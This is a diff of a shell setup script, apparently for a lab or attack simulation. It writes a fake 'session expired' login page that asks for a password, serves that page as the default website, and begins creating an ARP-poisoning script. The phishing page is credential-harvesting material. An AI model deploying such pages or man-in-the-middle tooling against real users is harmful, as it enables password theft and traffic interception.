@@ -11,17 +11,7 @@ cat > /var/www/fake/index.html <<'PAGE'
 <p>Your session has expired. Please enter your password again:</p>
 <form method="post" action="/login"><input type="password" name="pw"><button>Log in</button></form>
 PAGE
-cat > /etc/nginx/sites-available/fake <<'CONF'
-server {
-    listen 80 default_server;
-    root /var/www/fake;
-    index index.html;
-}
-CONF
-rm -f /etc/nginx/sites-enabled/default
-ln -sf ../sites-available/fake /etc/nginx/sites-enabled/fake
-nginx -t 2>&1
-nginx
+web_site fake /var/www/fake
 
 mkdir -p /opt/rogue
 cat > /opt/rogue/arp-poison.py <<'PY'
